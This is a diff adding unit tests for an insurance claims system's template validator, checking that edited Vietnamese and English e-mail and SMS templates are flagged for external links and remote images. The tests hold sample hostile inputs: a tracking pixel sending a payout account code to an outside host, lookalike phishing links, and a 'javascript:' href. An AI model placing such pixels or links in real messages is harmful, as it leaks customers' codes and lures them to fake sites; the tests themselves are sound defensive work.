@@ -170,3 +170,53 @@ describe('preview sample data', () => {
     expect(sampleTemplateData('payment_queued', 'en').amount).toBe('₫12,500,000');
   });
 });
+
+describe('links and remote content in an edited template (phishing, tracking)', () => {
+  const site = 'https://claims.example.vn';
+  const issuesOf = (name: TemplateName, t: unknown, origins: readonly string[] = [site]) =>
+    templateIssues(name, TemplateShape.parse(t), origins).map((i) => `${i.path}:${i.code}`);
+
+  it('refuses a tracking pixel in the payout account code e-mail, wherever its address points', () => {
+    const t = shipped('payout_account_code');
+    t.html!.vi += '<img src="https://tracker.example/p.gif?c={{code}}">';
+    t.html!.en += `<IMG SRC="${site}/p.gif">`;
+    expect(issuesOf('payout_account_code', t)).toEqual([
+      'html.vi:external_link',
+      'html.vi:remote_image',
+      'html.en:remote_image',
+    ]);
+  });
+
+  it('refuses a link elsewhere in the text, the SMS and an href, however it is written', () => {
+    const t = shipped('claim_approved');
+    t.text.vi += '\nXác nhận tài khoản: https://baohiem-xacnhan.example/{{{claimNumber}}}';
+    t.text.en += '\nConfirm at www.baohiem-xacnhan.example';
+    t.sms!.vi = 'Ho so {{{claimNumber}}} da duoc duyet. Xac nhan tai baohiem-xacnhan.example/x';
+    t.sms!.en = `Claim {{{claimNumber}}} approved: ${site}.evil.example/x`;
+    t.html!.vi = t.html!.vi.replace('href="{{claimUrl}}"', 'href="https://{{claimNumber}}.example/"');
+    t.html!.en = t.html!.en.replace('href="{{claimUrl}}"', "href='javascript:alert(1)'");
+    expect(issuesOf('claim_approved', t)).toEqual([
+      'text.vi:external_link',
+      'text.en:external_link',
+      'html.vi:external_link',
+      'html.en:external_link',
+      'sms.vi:external_link',
+      'sms.en:external_link',
+    ]);
+  });
+
+  it('accepts links to the claims site and the link the system builds, and nothing when no site is configured', () => {
+    const t = shipped('claim_approved');
+    t.text.vi += `\nTra cứu: ${site}/customer/#/claims`;
+    t.sms!.en = `Claim {{{claimNumber}}} approved: ${site}/customer/`;
+    t.html!.en = t.html!.en.replace('</p>', `</p><p><a href="${site}/customer/">${site}</a></p>`);
+    expect(issuesOf('claim_approved', t)).toEqual([]);
+    expect(issuesOf('claim_approved', t, [])).toEqual([
+      'text.vi:external_link',
+      'html.en:external_link',
+      'sms.en:external_link',
+    ]);
+    // The shipped href="{{claimUrl}}" stays allowed without any configured site.
+    expect(issuesOf('claim_approved', shipped('claim_approved'), [])).toEqual([]);
+  });
+});
